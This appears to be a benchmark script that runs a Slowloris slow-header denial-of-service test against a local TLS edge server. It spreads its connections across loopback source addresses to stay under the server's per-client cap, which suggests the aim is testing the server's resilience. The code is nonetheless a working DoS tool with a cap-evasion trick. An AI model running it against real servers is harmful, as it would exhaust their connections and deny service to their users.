#!/usr/bin/env python3
"""Slowloris against the edge, for bench 15c: N TLS connections, from 127.0.0.2,
127.0.0.3, ... (250 each, under the edge's per-client cap), each sending a request's
headers a byte every two seconds and never finishing them; a connection the server
closes is opened again. Runs for SECONDS, then prints how many connections it held
at the end and how many the server had closed.

    python3 scripts/slowloris.py PORT HOST N SECONDS
"""
import socket
import ssl
import sys
import time

port, host, n, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
context = ssl.create_default_context()
context.check_hostname = False
context.verify_mode = ssl.CERT_NONE


def open_one(i):
    source = "127.0.0.%d" % (2 + i // 250)
    raw = socket.create_connection(("127.0.0.1", port), timeout=10, source_address=(source, 0))
    s = context.wrap_socket(raw, server_hostname=host)
    s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: " % host).encode())
    s.setblocking(False)
    return s


conns = {}
closed = 0
for i in range(n):
    try:
        conns[i] = open_one(i)
    except OSError:
        pass
end = time.time() + seconds
while time.time() < end:
    for i in range(n):
        s = conns.get(i)
        try:
            if s is None:
                conns[i] = open_one(i)
                continue
            s.send(b"a")
        except (OSError, ssl.SSLError):
            closed += 1
            conns.pop(i, None)
            if s is not None:
                s.close()
    time.sleep(2)
print(len(conns), closed)
